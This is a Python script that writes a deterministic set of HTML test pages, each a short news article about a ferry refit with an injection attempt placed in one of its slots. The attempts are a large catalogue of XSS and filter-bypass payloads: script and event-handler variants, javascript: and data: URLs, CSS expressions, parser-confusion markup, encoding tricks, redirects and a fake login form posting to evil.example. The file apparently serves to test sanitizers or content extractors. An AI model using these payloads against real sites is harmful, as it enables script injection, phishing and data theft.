"""Make the pages of this folder: small articles of ours, each with something in it that tries to get out.

    python make.py

A page that gets its way sets ``window.pwned`` to 1, asks ``http://evil.example/`` for something, or leads the browser
there. Nothing is random and no clock is read: a second run writes the same bytes. The table below is in families; where
a piece stands in its page is the name of a slot in ``PAGE``.
"""

from __future__ import annotations

import json
from base64 import b64encode
from html import escape
from pathlib import Path

HERE = Path(__file__).resolve().parent
JS = "window.pwned=1"
EVIL = "http://evil.example/"
PAGE = """<!DOCTYPE html>
<html lang="en"{html}>
<head><meta charset="utf-8"><title>{title}</title>
<meta name="author" content="Ines Cole"><meta property="og:site_name" content="The Quay Post">
{head}</head>
<body{body}>
<nav><a href="/">Home</a> <a href="/news">News</a> <a href="/tides">Tides</a></nav>
<main><article>
<h1>{headline}</h1>
<p class="byline">By Ines Cole, 4 May 2026 {byline}</p>
{before}
<p>The old ferry was hauled out of the water on Monday, and half of the town came down to the slip to see what eleven
winters had done to its hull. Most of what they saw was mussels.</p>
{inside}
<p>The yard will scrape, weld and paint until the end of June, said its foreman, Piet Aldous, who learnt the trade on the
same boat. {paragraph} He expects to find more rust behind the tanks than anyone has paid for.</p>
<figure><img src="/ferry.jpg" alt="The ferry on the slip{alt}"><figcaption>The ferry on the slip. {caption}</figcaption></figure>
<ul><li>The keel is sound.</li><li>Two plates must be renewed. {item}</li></ul>
<table><tr><th>Work</th><th>Price</th></tr><tr><td>Welding</td><td>14,000 {cell}</td></tr></table>
<pre><code>hull --survey {code}</code></pre>
<p>Until then the island is served by the small launch, which takes eleven people and no cars, and which does not leave
when the wind comes from the north.</p>
<div class="newsletter-signup"><p>Sign up for our newsletter and get the tides every Friday. {ask}</p></div>
<p>The council has set aside a third of the cost; the rest is to come from the fares of the next six summers.</p>
{after}
</article></main>
<section class="comments" id="comments"><h2>Comments</h2><p>My father built that boat. {comment}</p></section>
<footer>Copyright The Quay Post. All rights reserved. {footer}</footer>
</body></html>
"""
SLOTS = (
    "html title head body headline byline before inside paragraph alt caption item cell code ask after comment footer"
).split()
TITLE = "The old ferry is out of the water"

PAGES: list[tuple[str, bytes]] = []


def page(name: str, **slots: str) -> None:
    """One more page, with the pieces in their slots."""
    unknown = set(slots) - set(SLOTS)
    assert not unknown, unknown
    filled = dict.fromkeys(SLOTS, "") | {"title": TITLE, "headline": TITLE} | slots
    add(name, PAGE.format(**filled).encode("utf-8"))


def add(name: str, content: bytes) -> None:
    """One more page, as bytes."""
    PAGES.append((name, content))


def entities(text: str, form: str = "&#{};") -> str:
    """The text with every character as a reference."""
    return "".join(form.format(ord(character)) for character in text)


def scripts() -> None:
    """Script elements, wherever a parser might take them for something else."""
    plain = f"<script>{JS}</script>"
    page("script-plain", inside=plain)
    page("script-in-head", head=plain)
    page("script-in-title", title=f"Ferry</title>{plain}")
    page("script-in-title-as-text", title=escape(plain), headline=escape(plain))
    page("script-in-headline", headline=f"Ferry {plain} out of the water")
    page("script-from-elsewhere", inside=f'<script src="{EVIL}script.js"></script>')
    page("script-module", inside=f'<script type="module">{JS}</script><script type="module" src="{EVIL}m.js"></script>')
    page("script-in-capitals", inside=f"<SCRIPT>{JS}</SCRIPT><sCrIpT/x>{JS}</ScRiPt >")
    page("script-in-script", inside=f"<scr<script>ipt>{JS}</scr</script>ipt>")
    page("script-never-closed", after=f"<script>{JS}")
    page("script-with-slash", inside=f"<script/src=data:,{JS}></script><script\n/\n>{JS}</script\n>")
    page("script-in-svg", inside=f"<svg><script>{JS}</script><script href='data:,{JS}'/></svg>")
    page("script-in-svg-cdata", inside=f"<svg><script><![CDATA[{JS}]]></script></svg>")
    page("script-in-math", inside=f"<math><script>{JS}</script><mtext><script>{JS}</script></mtext></math>")
    page("script-in-comment", inside=f"<!-- --!>{plain}<!-- --><!--><!--->{plain}-->")
    page("script-in-conditional-comment", inside=f"<!--[if IE]>{plain}<![endif]--><![if !IE]>{plain}<![endif]>")
    page("script-in-textarea", inside=f"<textarea></textarea>{plain}<textarea>&lt;/textarea&gt;{escape(plain)}")
    page("script-in-style", inside=f"<style></style>{plain}<style><!--</style>{plain}")
    page("script-in-noscript", inside=f'<noscript><p title="</noscript>{escape(plain)}"></noscript>{plain}')
    page("script-in-template", inside=f"<template>{plain}<p>Inside.</p></template><template shadowrootmode=open>{plain}</template>")
    page("script-in-xmp", inside=f"<xmp></xmp>{plain}<xmp>{plain}</xmp><listing>{escape(plain)}</listing>")
    page("script-in-noembed", inside=f"<noembed></noembed>{plain}<noframes>{plain}</noframes><noembed>{plain}</noembed>")
    page("script-in-plaintext", after=f"<plaintext>{plain}")
    page("script-in-select", inside=f"<select><option>one<script>{JS}</script></option></select>")
    page("script-after-the-end", footer=f"</footer></body></html>{plain}")
    page("script-in-code", code=f"</code></pre>{plain}<pre><code>{escape(plain)}")
    page("script-in-cell", cell=f"</td></tr></table>{plain}", item=f"</li></ul>{plain}")
    page("script-in-caption", caption=plain + escape(plain), alt=f'" /><img alt="{escape(plain)}')
    page("script-in-ask", ask=plain + escape(plain), comment=plain + escape(plain), footer=escape(plain))
    page("script-import-map", head=f'<script type="importmap">{{"imports":{{"a":"{EVIL}a.js"}}}}</script>', inside='<script type="module">import "a"</script>')
    page("script-speculation-rules", head=f'<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{EVIL}s"]}}]}}</script>')
    page("script-for-event", inside=f'<script for="window" event="onload">{JS}</script><script language="vbscript">{JS}</script>')


HANDLERS = {
    "img-onerror": "<img src=x onerror={}>",
    "img-onload": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload={}>",
    "svg-onload": "<svg onload={}></svg><svg/onload={}>",
    "svg-animate-onbegin": "<svg><animate onbegin={} attributeName=x dur=1s></animate></svg>",
    "svg-set-onend": "<svg><set attributeName=x to=1 dur=1ms onend={} /></svg>",
    "svg-image-onerror": "<svg><image href=x onerror={} /></svg>",
    "details-ontoggle": "<details open ontoggle={}><summary>More</summary>Inside.</details>",
    "input-onfocus": "<input autofocus onfocus={}>",
    "select-onfocus": "<select autofocus onfocus={}><option>one</select>",
    "textarea-onfocus": "<textarea autofocus onfocus={}>words</textarea>",
    "button-onfocus": "<button autofocus onfocus={}>Go</button>",
    "link-onfocus": "<a href=#x autofocus onfocus={} tabindex=0>link</a>",
    "editable-onfocus": "<p contenteditable autofocus onfocus={}>Write here.</p>",
    "video-onerror": "<video src=x onerror={}></video><video><source src=x onerror={}></video>",
    "audio-onerror": "<audio src=x onerror={}></audio><audio autoplay onloadstart={} src=x></audio>",
    "iframe-onload": "<iframe onload={}></iframe>",
    "object-onerror": "<object data=x onerror={}></object><object data='data:text/html,x' onload={}></object>",
    "embed-onload": "<embed src='data:text/html,x' onload={}>",
    "style-onload": "<style onload={}>p {{}}</style>",
    "link-onerror": "<link rel=stylesheet href=x onerror={}>",
    "script-onerror": "<script src=x onerror={}></script>",
    "input-image-onerror": "<input type=image src=x onerror={}>",
    "picture-onerror": "<picture><source srcset=x><img src=x onerror={}></picture>",
    "old-image-onerror": "<image src=x onerror={}>",
    "marquee-onstart": "<marquee onstart={} onbounce={}>words</marquee>",
    "track-onerror": "<video><track default kind=subtitles src=x onerror={}></video>",
    "animation": "<style>@keyframes x {{}}</style><p style='animation: x 1ms' onanimationstart={} onanimationend={}>words</p>",
    "transition": "<p style='transition: color 1ms' tabindex=0 autofocus ontransitionend={} onfocus={}>words</p>",
    "unknown-element": "<xss autofocus tabindex=0 onfocus={}>words</xss><x-y onclick={}>words</x-y>",
    "pointer": "<p onclick={} onmouseover={} onpointerenter={} onpointerrawupdate={} onwheel={} onauxclick={}>words</p>",
    "clipboard-and-keys": "<p oncopy={} oncut={} onpaste={} onkeydown={} onbeforeinput={} ondrag={}>words</p>",
    "popover": "<button popovertarget=pop>Open</button><div popover id=pop onbeforetoggle={} ontoggle={}>words</div>",
    "policy-violation": "<p onsecuritypolicyviolation={} oncontentvisibilityautostatechange={} style='content-visibility:auto'>words</p>",
    "form": "<form onsubmit={} onreset={} oninput={} onformdata={}><input value=x oninvalid={} onchange={}><input type=submit value=Go onclick={}></form>",
    "dialog": "<dialog open onclose={} oncancel={} oncommand={}>words</dialog>",
}
BODIES = ("onload", "onpageshow", "onfocus", "onresize", "onhashchange", "onpopstate", "onmessage", "onunload", "onbeforeprint", "onscroll")
SPELLINGS = {
    "in-capitals": "<IMG SRC=x OnErRoR={}>",
    "with-slashes": "<img/src=x/onerror={}/>",
    "with-form-feed": "<img\x0csrc=x\x0conerror\x0c=\x0c{}\x0c>",
    "with-newlines": "<img\nsrc\n=\nx\nonerror\n=\n{}\n>",
    "with-backticks": "<img src=`x` onerror=`{}` alt=``>",
    "without-an-end": "<img src=x onerror={} ",
    "doubled": "<img src=x alt=a onerror='' onerror={} src=y>",
    "after-a-quote": "<img alt=\"a\"\"src=x onerror={}\"><img src=x alt=\"\"onerror={}>",
    "before-an-angle": "<<img src=x onerror={}>//<",
    "in-an-entity": "<p title='&quot;&gt;&lt;img src=x onerror={}&gt;'>words</p>",
    "in-an-end-tag": "</p onclick={}><br onclick={}></br onclick={}>",
    "with-a-prefix": "<p xmlns:on='x' on:error={} data-onerror={} x:onload={}>words</p>",
}


def handlers() -> None:
    """Event handlers, on all that can fire without the reader and some that cannot."""
    slots = ("inside", "paragraph", "caption", "ask", "comment", "before", "after")
    for number, (name, markup) in enumerate(HANDLERS.items()):
        page(f"on-{name}", **{slots[number % len(slots)]: markup.replace("{}", JS).replace("{{", "{").replace("}}", "}")})
    page("on-body", body="".join(f" {name}={JS}" for name in BODIES))
    page("on-body-again", after=f"<body onload={JS} onpageshow={JS}><html onload={JS}>")
    for number, (name, markup) in enumerate(SPELLINGS.items()):
        page(f"on-{name}", **{("inside", "paragraph")[number % 2]: markup.replace("{}", JS)})
    page("on-in-entities", inside=f"<img src=x onerror={entities(JS)}><img src=x onerror={entities(JS, '&#x{:x};')}>")


ADDRESSES = {
    "javascript": f"javascript:{JS}",
    "javascript-in-capitals": f"JaVaScRiPt:{JS}",
    "javascript-after-space": f" \n\t javascript:{JS}",
    "javascript-after-controls": f"&#1;&#2;&#31; javascript:{JS}",
    "javascript-with-a-tab": f"java&#9;script:{JS}",
    "javascript-with-newlines": f"j&#10;a&#13;v&NewLine;a&Tab;script:{JS}",
    "javascript-in-entities": entities("javascript:") + JS,
    "javascript-in-long-entities": entities("javascript:", "&#0000{}") + JS,
    "javascript-in-hex": entities("javascript:", "&#x{:x}") + JS,
    "javascript-with-named-colon": f"javascript&colon;{JS}",
    "javascript-in-percent": f"javascript%3A{JS}",
    "javascript-with-a-null": f"java\0script:{JS}",
    "javascript-with-invisibles": f"java\u200bscript:{JS}&#xfeff;",
    "javascript-with-a-comment": f"javascript://evil.example/%0a{JS}",
    "javascript-after-view-source": f"view-source:javascript:{JS}",
    "javascript-after-feed": f"feed:javascript:{JS}",
    "javascript-after-jar": f"jar:javascript:{JS}!/",
    "vbscript": f"vbscript:{JS}",
    "livescript": f"livescript:{JS}",
    "data-html": f"data:text/html,<script>top.{JS};{JS}</script>".replace("<", "&lt;"),
    "data-html-base64": "data:text/html;base64," + b64encode(f"<script>top.{JS}</script>".encode()).decode(),
    "data-svg": f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.{JS}'/>".replace("<", "&lt;"),
    "blob-and-filesystem": "blob:http://evil.example/0 filesystem:http://evil.example/temporary/x",
    "backslashes": "\\\\evil.example\\x",
    "without-scheme": "//evil.example/x",
    "with-credentials": "http://paper.example@evil.example/x",
    "quote-in-address": f"http://a.example/&quot;onmouseover=&quot;{JS}&quot;&gt;&lt;script&gt;{JS}&lt;/script&gt;",
    "markdown-in-address": f"http://a.example/)&#32;[x](javascript:{JS})&lt;img/src=x/onerror={JS}&gt;",
}


def addresses() -> None:
    """Addresses that are no addresses, wherever an element takes one."""
    for name, address in ADDRESSES.items():
        link = f'<a href="{address}" target="_self">link</a> '
        page(f"address-{name}", paragraph=link, headline=link + TITLE, item=link, cell=link, caption=link, ask=link)
    bad = f"javascript:{JS}"
    page("address-in-images", inside=f'<img src="{bad}" lowsrc="{bad}" dynsrc="{bad}" longdesc="{bad}" usemap="{bad}" srcset="{bad} 2x" data-src="{bad}">')
    page("address-in-old-attributes", inside=f'<table background="{bad}"><tr><td background="{bad}">cell</td></tr></table><blockquote cite="{bad}">words</blockquote><body background="{bad}">')
    page("address-in-svg", inside=f'<svg><a xlink:href="{bad}" href="{bad}"><text y="9">link</text></a><use href="data:image/svg+xml,x#y"/><use xlink:href="{EVIL}u.svg#x"/></svg>')
    page("address-in-svg-animation", inside=f'<svg><a><animate attributeName="href" values="{bad}" /><text y="9">link</text></a><set attributeName="href" to="{bad}"/></svg>')
    page("address-in-math", inside=f'<math href="{bad}"><mtext>x</mtext><maction actiontype="statusline#{EVIL}" xlink:href="{bad}">x</maction></math>')
    page("address-on-click", paragraph=f'<a href="{EVIL}" ping="{EVIL}ping" download target="_top">words</a>', inside=f'<map name="m"><area href="{bad}" shape="default"></map><img usemap="#m" src="/a.png" alt="map">')


def styles() -> None:
    """Style that runs or asks for something."""
    page("style-import", head=f'<style>@import "{EVIL}a.css"; @import url({EVIL}b.css);</style>')
    page("style-link", head=f'<link rel="stylesheet" href="{EVIL}a.css"><link rel="alternate stylesheet" title=x href="{EVIL}b.css">')
    page("style-background", inside=f'<p style="background:url({EVIL}a.png);list-style:url({EVIL}b.png);content:url({EVIL}c.png)">words</p>')
    page("style-expression", inside=f'<p style="width:expression({JS});xss:expr/**/ession({JS})">words</p><style>p{{width:expression({JS})}}</style>')
    page("style-binding", inside=f'<p style="-moz-binding:url({EVIL}x.xml#x);behavior:url({EVIL}x.htc)">words</p>')
    page("style-font", head=f"<style>@font-face {{font-family: x; src: url({EVIL}f.woff)}} * {{font-family: x}}</style>")
    page("style-leak-by-selector", head=f'<style>input[value^="a"] {{background: url({EVIL}leak)}} h1::before {{content: url({EVIL}h)}}</style>', inside='<input value="abc">')
    page("style-over-everything", inside=f'<p style="position:fixed;inset:0;z-index:99999;background:red"><a href="{EVIL}">Your session has ended: log in again.</a></p>')
    page("style-ends-early", head=f"<style>p::after {{content: '</style><img src=x onerror={JS}>'}}</style>")
    page("style-in-svg", inside=f"<svg><style>@import url({EVIL}a.css);</style><rect style='fill:url({EVIL}b.svg#x)'/></svg>")
    page("style-in-escapes", inside=f'<p style="background:\\75\\72\\6c({EVIL}a.png);w\\69 dth:ex\\70ression({JS})">words</p>')
    page("style-javascript", inside=f'<p style="background:url(\'javascript:{JS}\')">words</p><link rel=stylesheet href="javascript:{JS}">')


MIXED = {
    "style-in-math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={}&gt;'>",
    "style-in-svg": "<svg></p><style><a id='</style><img src=1 onerror={}>'></a></style></svg>",
    "svg-title": "<svg><title><style><img src=x onerror={}></style></title></svg>",
    "svg-desc": "<svg><desc><table><tr><td><style></desc><img src=x onerror={}></style></table></desc></svg>",
    "foreign-object": "<svg><foreignObject><p>words<iframe onload={}></iframe></p></foreignObject></svg>",
    "annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror={}></annotation-xml></math>",
    "mglyph": "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror={}>'></p></noscript>",
    "noembed-in-svg": "<svg><noembed><img src=x onerror={}></noembed><noscript><img src=x onerror={}></noscript></svg>",
    "nested-forms": "<form><form><p><form id=x></form><input form=x onfocus={} autofocus></form></form>",
    "table-fosters": "<table><img src=x onerror={}><tr><svg onload={}><td><script>{}</script></table>",
    "select-in-select": "<select><template><img src=x onerror={}></template><style><img src=x onerror={}></style></select>",
    "comment-in-attribute": "<p title='<!--'>words</p><p title='--><img src=x onerror={}>'>words</p>",
    "comment-in-style": "<style><!--</style><img src=x onerror={}>--></style>",
    "cdata": "<![CDATA[<img src=x onerror={}>]]><svg><![CDATA[><img src=x onerror={}>]]></svg>",
    "processing": "<?xml version='1.0'?><?xml-stylesheet href='javascript:{}'?><?php echo '<img src=x onerror={}>' ?>",
    "doctype": "<!DOCTYPE x [<!ENTITY e '<img src=x onerror={}>'>]><p>&e;</p>",
    "entity-twice": "<p>&amp;lt;img src=x onerror={}&amp;gt; &lt;img src=x onerror={}&gt; &#60img src=x onerror={}&#62</p>",
    "textarea-title": "<textarea><title></textarea><img src=x onerror={}></title></textarea>",
    "frameset": "<frameset onload={}><frame src='javascript:{}'></frameset>",
    "namespaces": "<svg xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{}</h:script><h:img src='x' onerror='{}'/></svg>",
    "template-in-template": "<template><template><img src=x onerror={}></template></template></template><img src=x onerror={}>",
    "half-a-tag": "<p>words <img src=x title='><script>{}</script>' <b onclick={}",
    "kept-attributes": "<ol start='1\" onclick=\"{}'><li>x</ol><table><tr><td colspan='2\" onclick=\"{}'>x</td><td>y</table><pre><code class='language-x\" onclick=\"{}'>x</code></pre>",
    "clobbering": "<form id=documentElement name=body><input name=querySelector><img name=getElementById id=theme><a id=p1 name=find href=#p1>words</a></form>",
}


def mixed() -> None:
    """Markup that is one thing to one parser and another to the next."""
    for number, (name, markup) in enumerate(MIXED.items()):
        page(f"mixed-{name}", **{("inside", "paragraph", "before", "comment")[number % 4]: markup.replace("{}", JS)})


WORDS = (
    "The old ferry was hauled out of the water on Monday, and half of the town came down to the slip to see what eleven "
    "winters had done to its hull. Most of what they saw was mussels. The yard will scrape, weld and paint until the end "
    "of June, said its foreman, who learnt the trade on the same boat, and who expects to find more rust than paint. "
)


def data() -> None:
    """What a page says of itself, and the articles that it holds only as data."""
    ends = f"</script><script>{JS}</script>"
    image = f"<img src=x onerror={JS}>"
    empty = "<!DOCTYPE html><html lang=en><head><meta charset=utf-8><title>{}</title></head><body><div id=root></div>{}</body></html>"
    article = {"@context": "https://schema.org", "@type": "NewsArticle", "headline": TITLE, "datePublished": "2026-05-04"}

    def holds(name: str, fields: dict[str, object]) -> None:
        script = json.dumps(article | fields).replace("</", "<\\/")
        add(name, empty.format(TITLE, f'<script type="application/ld+json">{script}</script>').encode())

    holds("json-ld-body", {"articleBody": f"{WORDS}{image}{WORDS}{ends}"})
    holds("json-ld-body-in-entities", {"articleBody": f"<p>{WORDS}</p><p>{escape(image)} {escape(ends)}{WORDS}</p>"})
    holds("json-ld-headline", {"headline": f"{image}{ends}", "articleBody": WORDS * 2})
    holds("json-ld-author", {"author": {"name": f'Ines "Cole{image}'}, "articleBody": WORDS * 2})
    holds("json-ld-addresses", {"url": f"javascript:{JS}", "image": f"javascript:{JS}", "mainEntityOfPage": f"javascript:{JS}", "articleBody": WORDS * 2})
    holds("json-ld-publisher", {"publisher": {"name": ends, "logo": {"url": f"{EVIL}logo.png"}}, "keywords": [image, ends], "articleBody": WORDS * 2})
    holds("json-ld-surrogates", {"articleBody": f"{WORDS}\ud800 \udfff {image}{WORDS}"})
    page("json-ld-ends-early", head=f'<script type="application/ld+json">{{"headline": "a{ends}"}}</script>')
    page("json-ld-in-comment", head=f'<script type="application/ld+json"><!-- <script> {{"headline": "{escape(image)}"}} --></script>')

    def carries(name: str, html: str, before: str = '<script id="__NEXT_DATA__" type="application/json">') -> None:
        props = {"props": {"pageProps": {"article": {"title": TITLE, "body": html}}}}
        script = json.dumps(props).replace("</", "<\\/")
        add(name, empty.format(TITLE, f"{before}{script}</script>").encode())

    carries("next-data-script", f"<p>{WORDS}</p>{image}<p>{WORDS}</p>{ends}")
    carries("next-data-svg", f"<p>{WORDS}</p><svg onload={JS}></svg><p>{WORDS}<a href='javascript:{JS}'>link</a></p>")
    carries("next-data-mixed", f"<p>{WORDS}</p><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={JS}&gt;'></table></mtext></math><p>{WORDS}</p>")
    carries("next-data-frame", f"<p>{WORDS}</p><iframe srcdoc='<script>top.{JS}</script>'></iframe><p>{WORDS}</p><base href='javascript:{JS}//'>")
    carries("initial-state", f"<p>{WORDS}</p>{image}<p>{WORDS}</p>", before="<script>window.__INITIAL_STATE__ = ")
    page("next-data-ends-early", after=f'<script id="__NEXT_DATA__" type="application/json">{{"a": "<!--<script>{ends}"}}</script>')
    page("meta-title-and-author", head=f"<meta property='og:title' content='{image}{ends}'><meta name='author' content='{image}'><meta name='description' content='{ends}'>")
    page("meta-addresses", head=f"<link rel='canonical' href='javascript:{JS}'><meta property='og:url' content='javascript:{JS}'><meta property='og:image' content='javascript:{JS}'>")
    page("meta-language", html=f' xml:lang="&quot;&gt;&lt;img src=x onerror={JS}&gt;"', head=f"<meta http-equiv=content-language content='en\" onclick=\"{JS}'>")
    page("meta-date", head=f"<meta property='article:published_time' content='2026-05-04\"><script>{JS}</script>'>", byline=f"<time datetime='\"><script>{JS}</script>'>now</time>")
    page("hidden-article", inside=f"<div hidden><p>{WORDS}</p><p>{WORDS}</p>{image}</div><div style='display:none' onclick={JS}><p>{WORDS}</p></div>")


def frames() -> None:
    """Frames, forms, and ways to lead a browser elsewhere."""
    inner = f"<script>top.{JS};parent.{JS};{JS}</script>"
    page("frame-srcdoc", inside=f'<iframe srcdoc="{escape(inner)}"></iframe>')
    page("frame-javascript", inside=f'<iframe src="javascript:parent.{JS}"></iframe><frame src="javascript:{JS}">')
    page("frame-elsewhere", inside=f'<iframe src="{EVIL}frame"></iframe><iframe loading=lazy src="//evil.example/lazy"></iframe>')
    page("frame-data", inside=f'<iframe src="data:text/html,{escape(inner)}"></iframe>')
    page("frame-in-frame", inside=f'<iframe srcdoc="{escape(f"<iframe srcdoc={chr(34)}{escape(inner)}{chr(34)}></iframe>")}"></iframe>')
    page("object-and-embed", inside=f'<object data="{EVIL}o.swf" type="application/x-shockwave-flash"><param name="movie" value="{EVIL}m.swf"></object><embed src="{EVIL}e.swf" allowscriptaccess="always">')
    page("object-html", inside=f'<object data="data:text/html,{escape(inner)}"></object><embed src="javascript:{JS}"><applet code="x" codebase="{EVIL}"></applet>')
    page("form-javascript", inside=f'<form action="javascript:{JS}"><button formaction="javascript:{JS}">Go on</button><input type=submit formaction="javascript:{JS}" value="Send"></form>')
    page("form-elsewhere", inside=f'<form id=f action="{EVIL}login" method=post><label>Password <input type=password name=p></label><button>Log in</button></form><isindex action="javascript:{JS}" prompt="x">')
    page("refresh", head=f'<meta http-equiv="refresh" content="0;url={EVIL}refresh">')
    page("refresh-javascript", head=f'<meta http-equiv="Refresh" content="0; URL=javascript:{JS}"><meta http-equiv=refresh content="0;url=data:text/html,{escape(inner)}">')
    page("refresh-in-the-body", inside=f'<meta http-equiv="refresh" content="0;url={EVIL}refresh"><p><meta http-equiv="set-cookie" content="pwned=1"></p>')
    page("base-elsewhere", head=f'<base href="{EVIL}" target="_top">', paragraph='<a href="next">next</a>')
    page("base-javascript", head=f'<base href="javascript:{JS}//">', paragraph='<a href="next">next</a>', inside='<img src="x.png" alt="x">')
    page("link-prefetch", head="".join(f'<link rel="{rel}" href="{EVIL}{rel}" as="script">' for rel in "prefetch preload modulepreload prerender preconnect dns-prefetch manifest icon import".split()))
    page("tracking-pixel", inside=f'<img src="{EVIL}pixel.gif" width="1" height="1" alt=""><img src="{EVIL}hidden.gif" style="display:none">')
    page("pictures-elsewhere", inside=f'<img src="{EVIL}a.png" srcset="{EVIL}b.png 2x" alt="&lt;script&gt;{JS}&lt;/script&gt;"><picture><source srcset="{EVIL}c.png"><img src="{EVIL}d.png"></picture>')
    page("media-elsewhere", inside=f'<video poster="{EVIL}p.png" src="{EVIL}v.mp4" autoplay></video><audio src="{EVIL}a.mp3" autoplay></audio><video><source src="{EVIL}s.mp4"><track src="{EVIL}t.vtt" default></video>')
    page("svg-elsewhere", inside=f'<svg><image href="{EVIL}i.png" width=9 height=9 /><feImage href="{EVIL}f.png"/><foreignObject><img src="{EVIL}g.png"></foreignObject></svg>')
    page("network-error-logging", head=f'<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri {EVIL}csp"><meta http-equiv="X-UA-Compatible" content="IE=7">')


MARKDOWN = {
    "link": f"[click](javascript:{JS})",
    "reference": f"[click][x] and [x]: javascript:{JS}",
    "autolink": f"&lt;javascript:{JS}&gt; &lt;http://evil.example/auto&gt;",
    "picture": f"![picture]({EVIL}md.png) !&#91;picture&#93;({EVIL}md2.png)",
    "entities": f"[click](&amp;#106;avascript:{JS}) [click](&amp;#x6A;avascript&amp;colon;{JS})",
    "raw-html": f"&lt;img src=x onerror={JS}&gt; &lt;script&gt;{JS}&lt;/script&gt; &lt;svg onload={JS}&gt;",
    "code-that-ends": f"``` &lt;img src=x onerror={JS}&gt; ``` ~~~ `` ` &lt;script&gt;{JS}&lt;/script&gt;",
    "mathematics": f"$[x](javascript:{JS})$ $&lt;img src=x onerror={JS}&gt;$ $$&lt;script&gt;{JS}&lt;/script&gt;$$",
    "heading-and-quote": f"# &lt;img src=x onerror={JS}&gt;<br>&gt; &lt;script&gt;{JS}&lt;/script&gt;<br>===",
    "table": f"a | [b](javascript:{JS}) | ![c]({EVIL}t.png)<br>--- | --- | ---<br>`|` &lt;img src=x onerror={JS}&gt;",
    "backslashes": f"\\[click](javascript:{JS}) \\\\[click\\\\](javascript:{JS}) \\&lt;img src=x onerror={JS}&gt;",
    "comment": f"&lt;!-- --&gt; &lt;![CDATA[ &lt;?php &lt;img src=x onerror={JS}&gt;",
}


def markdown() -> None:
    """Text that would be markup, were it taken for Markdown or pasted as it is."""
    for name, text in MARKDOWN.items():
        page(f"markdown-{name}", headline=f"{text} {TITLE}", before=f"<p>{text}</p>", paragraph=text, caption=text, item=text, cell=text, code=text, alt=escape(text).replace("&amp;", "&"))


def raw() -> None:
    """Bytes, sizes and directions."""
    plain = f"<script>{JS}</script><img src=x onerror={JS}>"
    whole = PAGE.format(**dict.fromkeys(SLOTS, "") | {"title": TITLE, "headline": TITLE, "inside": "@HERE@"})

    def put(name: str, piece: bytes) -> None:
        add(name, whole.encode().replace(b"@HERE@", piece))

    put("bytes-null", plain.replace("script", "scr\0ipt").replace("onerror", "on\0error").encode())
    put("bytes-null-in-front", b"<\0script>" + JS.encode() + b"</script><img src=x\0onerror=" + JS.encode() + b">")
    put("bytes-overlong", b"\xc0\xbcscript\xc0\xbe" + JS.encode() + b"\xc0\xbc/script\xc0\xbe \xe0\x80\xbcimg src=x onerror=" + JS.encode() + b"\xe0\x80\xbe")
    put("bytes-utf-7", b"+ADw-script+AD4-" + JS.encode() + b"+ADw-/script+AD4-")
    put("bytes-controls", "".join(f"{chr(code)}<img{chr(code)}src=x{chr(code)}onerror={JS}>" for code in (1, 2, 11, 12, 14, 27, 127, 133, 160)).encode())
    add("bytes-utf-16", b"\xff\xfe" + whole.replace("@HERE@", plain).replace("utf-8", "utf-16").encode("utf-16-le"))
    add("bytes-iso-2022-jp", whole.replace("utf-8", "iso-2022-jp").encode().replace(b"@HERE@", b"<p title=\"\x1b$B\">\x1b(B<img src=x onerror=" + JS.encode() + b"></p>"))
    add("bytes-gbk", whole.replace("utf-8", "gbk").encode().replace(b"@HERE@", b"<p title=\"\x81\"><img src=x onerror=" + JS.encode() + b">\x81\x22</p>"))
    put("direction-overrides", "<p>The \u202etpircs\u202c and \u2067<b>reversed\u2066 \u202d text \u200f without end</p>".encode())
    page("direction-in-title", title="Ferry \u202eLMTH.egap\u202c", headline="Ferry \u202egpj.tpircs\u2066", paragraph='<a href="http://evil.example/\u202ecod.exe">invoice\u202efdp.exe</a>')
    put("right-to-left", f"<div dir=rtl><p>הקורא היקר, \"><img src=x onerror={JS}> המעבורת הישנה</p></div>".encode())
    put("huge-attribute", f'<p title="{"A" * 30_000}"><img src=x alt="{"B&quot;" * 4_000}" onerror={JS}>words</p>'.encode())
    put("huge-address", f'<p><a href="http://a.example/{"c" * 20_000}">link</a><a href="javascript:{JS};{"d" * 20_000}">link</a></p>'.encode())
    put("many-attributes", ("<p " + " ".join(f"a{number}=1" for number in range(3_000)) + f" onclick={JS}>words</p>").encode())
    put("many-tags", (f"<b onclick={JS}>" * 1_500 + "words" + "</b>" * 1_500).encode())
    put("deep-tables", ("<table><tr><td>" * 200 + f"<img src=x onerror={JS}>words").encode())
    add("only-an-attribute", f'" onmouseover={JS} x="'.encode() + f"'><svg onload={JS}>".encode())
    add("cut-in-a-tag", whole.split("@HERE@")[0].encode() + f"<p>words words words <img src=x onerror={JS} alt='".encode())


def make() -> list[tuple[str, bytes]]:
    """All pages, names and bytes, in order."""
    PAGES.clear()
    for family in (scripts, handlers, addresses, styles, mixed, data, frames, markdown, raw):
        family()
    return [(f"{number:03d}-{name}.html", content) for number, (name, content) in enumerate(PAGES, 1)]


if __name__ == "__main__":
    for old in HERE.glob("*.html"):
        old.unlink()
    for name, content in make():
        (HERE / name).write_bytes(content)
